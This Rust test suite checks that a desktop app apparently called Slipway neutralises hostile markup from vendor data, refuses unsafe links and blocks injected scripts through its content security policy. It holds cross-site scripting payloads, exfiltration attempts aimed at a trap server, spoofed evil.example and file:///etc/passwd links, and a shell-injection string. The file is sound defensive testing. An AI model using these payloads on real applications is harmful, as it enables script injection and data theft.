//! Scripts, markup and links in all texts of vendors, and a script that was injected into the page: in the real
//! window nothing is executed or fetched, and only allowed links open.

use anyhow::{Result, ensure};
use serde_json::json;
use slipway_tests::{Album, Browser, Desktop, Named, SandboxProcess, TrapServer, Window, wait_for, wait_within};
use std::time::Duration;
use thirtyfour::Key;

const PATIENCE: Duration = Duration::from_secs(60);

/// What would be executed or fetched if it were taken for markup. `BAIT` is replaced by an address that records
/// connections.
const MARKUP: [&str; 8] = [
    "<img src=BAIT/img onerror=\"window.__ran='img'\">",
    "<script>window.__ran='script'</script><script src=BAIT/script></script>",
    "<svg/onload=\"window.__ran='svg'\"><image href=BAIT/svg /></svg>",
    "\"><iframe srcdoc=\"<script>parent.__ran='frame'</script>\" src=BAIT/frame></iframe>",
    "![picture](BAIT/markdown) [link](javascript:window.__ran='link') <a href=\"javascript:window.__ran='a'\">x</a>",
    "<style>@import url(BAIT/style);*{background:url(BAIT/background)}</style><link rel=stylesheet href=BAIT/link>",
    "<meta http-equiv=refresh content=\"0;url=BAIT/refresh\"><base href=BAIT/>",
    "{@html '<img src=BAIT/svelte onerror=window.__ran=1>'} ${window.__ran='template'} {{constructor.constructor('window.__ran=1')()}}",
];

/// What the page must not contain.
const FOREIGN: &str = "\
    const found = document.querySelectorAll('[onerror],[onload],[srcdoc],img,image,iframe,object,embed,video,audio,form[action],a[href],base,meta[http-equiv=refresh]');
    return {ran: window.__ran ?? null, found: [...found].map((one) => one.outerHTML), page: [location.href, document.title]};";

/// None of these may reach a browser.
fn refused_links(bait: &TrapServer) -> Vec<String> {
    let host = bait.host();
    [
        "javascript:window.__ran='open'",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "file://github.com/etc/passwd",
        "http://github.com/acme",
        "ftp://github.com/acme",
        "vscode://github.com/x",
        "slipway://merge/1",
        "tauri://localhost/",
        "ipc://localhost/execute",
        "https://evil.example/",
        "https://github.com.evil.example/",
        "https://github.com@evil.example/",
        "https://evil.example/https://github.com/",
        "https://evil.example#https://github.com",
        "https://evil.example\\@github.com/",
        "https://github.com%2eevil.example/",
        "https://gıthub.com/",
        "https://user:word@github.com/",
        "https://github.com:444/",
        "//github.com/acme",
        "/etc/passwd",
        "--help",
        "-h https://github.com/",
        "",
        " ",
        "https://",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain([format!("http://{host}/open"), format!("https://{host}/open"), format!("https://github.com@{host}/open")])
    .collect()
}

async fn nothing_came_in(window: &Window, bait: &TrapServer, screen: &str) -> Result<()> {
    window.settle().await?;
    let state = window.evaluate(FOREIGN, vec![]).await?;
    ensure!(state["ran"].is_null() && state["found"] == json!([]), "{screen}: {state}");
    ensure!(state["page"] == json!(["tauri://localhost", "Slipway"]), "{screen}: {}", state["page"]);
    ensure!(bait.heard().is_empty(), "{screen}: fetched {:?}", bait.heard());
    Ok(())
}

fn set(bait: &TrapServer, markup: &str) -> String {
    markup.replace("BAIT", bait.url("").trim_end_matches('/'))
}

/// Every text of every vendor ends in markup, from the time when the services have been added.
async fn spoil(sandbox: &SandboxProcess, bait: &TrapServer) -> Result<()> {
    let all = format!("{{}} {}", MARKUP.map(|one| set(bait, one)).join(" "));
    let url = bait.url("url");
    let rules = json!([
        {"kind": "texts", "vendor": "github", "calls": "reads", "fields": {"title": all, "body": all, "bodyText": all, "headRefName": all, "login": all, "message": all, "messageHeadline": all, "context": all, "path": all, "url": url, "detailsUrl": url, "targetUrl": url, "html_url": url}},
        {"kind": "texts", "vendor": "circleci", "calls": "reads", "fields": {"name": all, "subject": all, "login": all, "path": all, "message": all, "file": all, "classname": all, "url": url, "web_url": url}},
        {"kind": "texts", "vendor": "circleci_logs", "fields": {"message": all}},
        {"kind": "texts", "vendor": "heroku", "calls": "reads", "fields": {"description": all, "email": all}},
    ]);
    sandbox.post("/faults", &rules).await?;
    Ok(())
}

#[tokio::test]
async fn markup_from_the_vendors_is_text_on_every_screen() -> Result<()> {
    let (bait, browser) = (TrapServer::lay()?, Browser::new()?);
    let sandbox = SandboxProcess::start(60, "healthy").await?;
    Desktop::plan()
        .variable("PATH", &browser.path())
        .run("markup", async |desktop| {
            let mut album = Album::open("markup")?;
            sandbox.connect_kept(&desktop.cli()?).await?;
            let service = sandbox.first_service()?;
            for markup in MARKUP {
                let text = set(&bait, markup);
                let pull = json!({"service": service, "title": text, "body": text, "branch": text, "login": text, "ready": true});
                sandbox.post("/world", &json!({"open_pull": pull})).await?;
            }
            sandbox
                .post("/world", &json!({"fail_next": {"service": service, "job": "integration"}, "start_pipeline": {"service": service}}))
                .await?;
            sandbox.post("/world", &json!({"advance": 1200})).await?;
            spoil(&sandbox, &bait).await?;

            let window = desktop.open(&[]).await?;
            window.shows_within(PATIENCE, "<img src=").await?;
            window.shows("window.__ran='template'").await?;
            album.keep("flow", &window.picture().await?).await?;
            nothing_came_in(&window, &bait, "flow").await?;
            window.click("button", Named::Starting("Open #")).await?;
            window.get("dialog", Named::Starting("Pull request ")).await?;
            album.keep("pull-request", &window.picture().await?).await?;
            nothing_came_in(&window, &bait, "pull request").await?;
            window.click("button", Named::Containing(" on GitHub")).await?;
            window.shows("The link was not opened").await?;
            window.press(Key::Escape).await?;
            window.gone("dialog", Named::Starting("Pull request ")).await?;
            window.press_with(&[Key::Control], "k").await?;
            window.fill("combobox", Named::Anything, "img").await?;
            window.get("option", Named::Containing("<img src=")).await?;
            nothing_came_in(&window, &bait, "palette").await?;
            window.press(Key::Escape).await?;
            window.click("button", Named::Exactly("Pipelines")).await?;
            window.shows_within(PATIENCE, "Failed tests").await?;
            album.keep("pipeline", &window.picture().await?).await?;
            nothing_came_in(&window, &bait, "pipeline").await?;
            window.click("button", Named::Exactly("Timeline")).await?;
            nothing_came_in(&window, &bait, "timeline").await?;
            let release = window.all("button", Named::Containing("v")).await?.into_iter().find(|(_, name)| name.contains(" v1"));
            if let Some((release, _)) = release {
                release.click().await?;
            }
            album.keep("release", &window.picture().await?).await?;
            nothing_came_in(&window, &bait, "release").await?;
            window.click("button", Named::Exactly("Flow")).await?;
            window.click("button", Named::Starting("Roll back production")).await?;
            window.get("dialog", Named::Containing("Roll back production")).await?;
            album.keep("rollback", &window.picture().await?).await?;
            nothing_came_in(&window, &bait, "rollback plan").await?;
            window.press(Key::Escape).await?;
            window.click("button", Named::Exactly("Journal")).await?;
            nothing_came_in(&window, &bait, "journal").await?;
            ensure!(browser.opened().is_empty(), "opened: {:?}", browser.opened());
            ensure!(sandbox.changes().await? == 0);
            Ok(())
        })
        .await
}

#[tokio::test]
async fn only_allowed_links_reach_the_browser() -> Result<()> {
    let (bait, browser) = (TrapServer::lay()?, Browser::new()?);
    let sandbox = SandboxProcess::start(60, "healthy").await?;
    Desktop::plan()
        .variable("PATH", &browser.path())
        .run("links", async |desktop| {
            sandbox.connect_kept(&desktop.cli()?).await?;
            let service = sandbox.first_service()?;
            let window = desktop.open(&[]).await?;
            window.shows_within(PATIENCE, "is healthy").await?;
            let opens = async |link: &str| window.invoke("open_link", &json!({"url": link})).await;
            for link in refused_links(&bait) {
                ensure!(opens(&link).await?.is_err_and(|refusal| refusal["code"] == "link_refused"), "{link} was opened");
            }
            // A link that the vendor's own header can have shown: GitHub's single sign-on.
            let sso = "required; url=https://github.com.evil.example/orgs/acme/sso";
            let refuses =
                json!({"kind": "status", "vendor": "github", "code": 403, "body": {"message": "no"}, "headers": {"x-github-sso": sso}});
            sandbox.post("/faults", &refuses).await?;
            window.invoke("refresh", &json!({"service": service})).await?.ok();
            window.click("button", Named::Exactly("Settings")).await?;
            window.click_within(PATIENCE, "button", Named::Starting("Authorise at GitHub")).await?;
            window.shows("is neither a vendor nor the host of an account").await?;
            sandbox.delete("/faults").await?;

            // An allowed link comes last, so links before it would have been opened before it.
            let fine = format!("https://github.com/acme/{service}/pull/1");
            for link in [fine.as_str(), "https://github.com/`id`$(id);id|id&id>x '\"\n--flag"] {
                ensure!(opens(link).await?.is_ok(), "{link} was refused");
            }
            let opened = wait_for("two links", async || Ok(Some(browser.opened()).filter(|all| all.len() >= 2))).await?;
            ensure!(opened.iter().any(|line| line.trim_start_matches("open ") == fine), "{opened:?}");
            // One argument, without anything that a shell or a program could take for another.
            ensure!(
                opened.iter().all(|line| line.starts_with("https://github.com/") && !line.contains([' ', '"', '<', '>'])),
                "{opened:?}"
            );
            ensure!(opened.len() == 2 && bait.heard().is_empty(), "{opened:?}, {:?}", bait.heard());
            Ok(())
        })
        .await
}

/// What an injected script may try: to fetch, to send and to navigate away. `BAIT` records connections.
const ATTEMPTS: [(&str, &str); 26] = [
    ("picture", "const i = new Image(); i.src = 'BAIT/picture'; document.body.append(i)"),
    ("script", "const s = document.createElement('script'); s.src = 'BAIT/script'; document.body.append(s)"),
    ("inline script", "const s = document.createElement('script'); s.textContent = 'window.__ran = 1'; document.body.append(s)"),
    ("data script", "const s = document.createElement('script'); s.src = 'data:text/javascript,window.__ran=1'; document.body.append(s)"),
    (
        "handler",
        "const d = document.createElement('div'); d.setAttribute('onclick', 'window.__ran = 1'); document.body.append(d); d.click()",
    ),
    ("eval", "try { (0, eval)('window.__ran = 1') } catch {}"),
    ("function", "try { new Function('window.__ran = 1')() } catch {}"),
    ("timer", "try { setTimeout('window.__ran = 1', 0) } catch {}"),
    ("fetch", "fetch('BAIT/fetch', {mode: 'no-cors'}).catch(() => {})"),
    ("request", "try { const x = new XMLHttpRequest(); x.open('POST', 'BAIT/request'); x.send('x') } catch {}"),
    ("beacon", "try { navigator.sendBeacon('BAIT/beacon', 'x') } catch {}"),
    ("socket", "try { new WebSocket('BAIT/socket'.replace('http', 'ws')) } catch {}"),
    ("events", "try { new EventSource('BAIT/events') } catch {}"),
    (
        "module",
        "const s = document.createElement('script'); s.type = 'module'; s.textContent = 'import \"BAIT/module\"'; document.body.append(s)",
    ),
    ("worker", "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"BAIT/worker\")']))) } catch {}"),
    ("frame", "const f = document.createElement('iframe'); f.src = 'BAIT/frame'; document.body.append(f)"),
    (
        "frame with a page",
        "const f = document.createElement('iframe'); f.srcdoc = '<img src=BAIT/srcdoc><script>parent.__ran = 1</scr' + 'ipt>'; document.body.append(f)",
    ),
    ("style", "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'BAIT/style'; document.head.append(l)"),
    (
        "inline style",
        "const s = document.createElement('style'); s.textContent = '@import url(BAIT/import); body { background: url(BAIT/background) }'; document.head.append(s)",
    ),
    ("background", "document.body.style.backgroundImage = 'url(BAIT/property)'"),
    ("font", "new FontFace('x', 'url(BAIT/font)').load().catch(() => {})"),
    ("media", "const v = document.createElement('video'); v.src = 'BAIT/video'; document.body.append(v); v.play().catch(() => {})"),
    ("object", "const o = document.createElement('object'); o.data = 'BAIT/object'; document.body.append(o)"),
    (
        "prefetch",
        "for (const rel of ['prefetch', 'preload', 'preconnect', 'modulepreload', 'manifest', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'BAIT/' + rel; document.head.append(l) }",
    ),
    ("form", "const f = document.createElement('form'); f.action = 'BAIT/form'; f.method = 'post'; document.body.append(f); f.submit()"),
    (
        "window",
        "window.open('BAIT/window'); const a = document.createElement('a'); a.href = 'BAIT/blank'; a.target = '_blank'; document.body.append(a); a.click(); a.download = 'x'; a.target = ''; a.href = 'data:text/plain,x'; a.click()",
    ),
];

/// Addresses to which a script might navigate the page.
const PLACES: [&str; 7] = [
    "BAIT/page",
    "https://evil.example/",
    "data:text/html,<p>gone</p>",
    "file:///etc/passwd",
    "about:blank",
    "javascript:void(window.__ran = 1)",
    "http://localhost:1420/",
];

/// The content security rules that must have been violated, as reported in the page.
const BROKEN: [&str; 9] = [
    "script-src-elem",
    "script-src-attr",
    "script-src",
    "connect-src",
    "img-src",
    "style-src-elem",
    "font-src",
    "object-src",
    "form-action",
];

#[tokio::test]
async fn a_script_in_the_page_fetches_nothing_and_leads_nowhere() -> Result<()> {
    let (bait, browser) = (TrapServer::lay()?, Browser::new()?);
    let sandbox = SandboxProcess::start(60, "healthy").await?;
    Desktop::plan()
        .variable("PATH", &browser.path())
        .run("policy", async |desktop| {
            sandbox.connect_kept(&desktop.cli()?).await?;
            let window = desktop.open(&[]).await?;
            window.shows_within(PATIENCE, "is healthy").await?;
            let watch = "window.__broken = []; document.addEventListener('securitypolicyviolation', (e) => window.__broken.push(e.effectiveDirective)); window.__here = 1;";
            window.evaluate(watch, vec![]).await?;
            for (_, attempt) in ATTEMPTS {
                window.evaluate(&set(&bait, attempt), vec![]).await?;
            }
            let broken = wait_within(PATIENCE, "the page to tell what was refused", async || {
                let broken = window.evaluate("return window.__broken", vec![]).await?;
                let missing: Vec<&str> = BROKEN.into_iter().filter(|rule| !broken.as_array().is_some_and(|all| all.contains(&json!(rule)))).collect();
                ensure!(missing.is_empty(), "not refused: {missing:?} of {broken}");
                Ok(Some(broken))
            })
            .await?;
            for place in PLACES {
                window.evaluate("window.location = arguments[0]", vec![json!(set(&bait, place))]).await?;
                window.settle().await?;
                let here = window.evaluate("return [window.__here, location.href]", vec![]).await?;
                ensure!(here == json!([1, "tauri://localhost"]), "{place} led to {here}");
            }
            let ran = window.evaluate("return window.__ran ?? null", vec![]).await?;
            ensure!(ran.is_null() && bait.heard().is_empty(), "ran {ran}, fetched {:?}, refused {broken}", bait.heard());
            ensure!(desktop.windows()?.iter().filter(|one| one.shown).count() == 1, "{:?}", desktop.windows()?);
            ensure!(browser.opened().is_empty(), "opened: {:?}", browser.opened());
            let kept: Vec<_> = std::fs::read_dir(desktop.folder().join("home"))?.collect::<std::io::Result<_>>()?;
            ensure!(kept.is_empty(), "downloaded: {kept:?}");
            window.shows("is healthy").await?;
            let world = window.invoke("world", &json!({})).await?.map_err(|e| anyhow::anyhow!("{e}"))?;
            ensure!(world["snapshot"]["services"].is_array(), "{world}");
            Ok(())
        })
        .await
}
